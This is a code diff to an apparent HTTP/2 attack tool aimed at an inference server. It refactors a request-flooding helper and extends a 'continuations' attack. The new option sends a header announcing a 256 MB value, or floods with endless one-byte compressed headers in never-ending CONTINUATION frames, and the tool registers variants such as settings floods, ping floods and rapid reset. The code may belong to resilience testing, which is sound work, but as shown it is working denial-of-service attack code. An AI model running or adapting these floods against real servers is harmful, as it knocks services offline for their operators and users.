@@ -203,7 +203,12 @@ def ask(attack: Attack, connections: int, per_s: float, block: bytes, data: Call
         block: the headers.
         data: makes the next request.
     """
-    flood(attack, connections, lambda one: one.call(block, data()) and b"", per_s)
+
+    def chunk(one: Connection) -> bytes:
+        one.call(block, data())
+        return b""
+
+    flood(attack, connections, chunk, per_s)
 
 
 def unfinished(attack: Attack, path: str, connections: int, calls: int, data: bytes | None) -> None:
@@ -354,11 +359,16 @@ def idle_streams(attack: Attack, path: str) -> None:
     hold(attack, attack.size(20), 100, lambda one: one.call(block, None, end=False))
 
 
-def continuations(attack: Attack) -> None:
-    """Headers that never end."""
-    fields = b"\x10\x01a" + b"\x7f\x80\x7f" + bytes(16_000)  # a literal header, never indexed, of a large value
-    begin = frame(http2.HEADERS, 0, 1, encode_call(PREDICT))
-    rest = frame(http2.CONTINUATION, 0, 1, fields[: http2.LARGEST_FRAME])
+def continuations(attack: Attack, endless_value: bool) -> None:
+    """Headers that never end.
+
+    Args:
+        attack: the attack.
+        endless_value: one header of 256 MB; else headers of one byte each, which stand for 44 (RFC 7541, entry 16).
+    """
+    name, length_2_28, one_byte = b"\x10\x01a", b"\x7f\x81\xff\xff\x7f", b"\x90"
+    begin = frame(http2.HEADERS, 0, 1, encode_call(PREDICT) + (name + length_2_28 if endless_value else b""))
+    rest = frame(http2.CONTINUATION, 0, 1, (b"v" if endless_value else one_byte) * 16_000)
     begun: set[Connection] = set()
 
     def chunk(one: Connection) -> bytes:
@@ -494,7 +504,8 @@ KINDS: dict[str, Callable[[Attack], None]] = {
     "unread-stream": unread_stream,
     "streams-idle": partial(idle_streams, path=STREAM_INFER),
     "reflection-idle": partial(idle_streams, path=REFLECTION),
-    "continuations": continuations,
+    "continuations": partial(continuations, endless_value=False),
+    "continuations-value": partial(continuations, endless_value=True),
     "settings": partial(repeat, frames=SETTINGS_FRAME, per_s=5000),
     "pings": partial(repeat, frames=frame(http2.PING, 0, 0, bytes(8)), per_s=5000),
     "rapid-reset": rapid_reset,
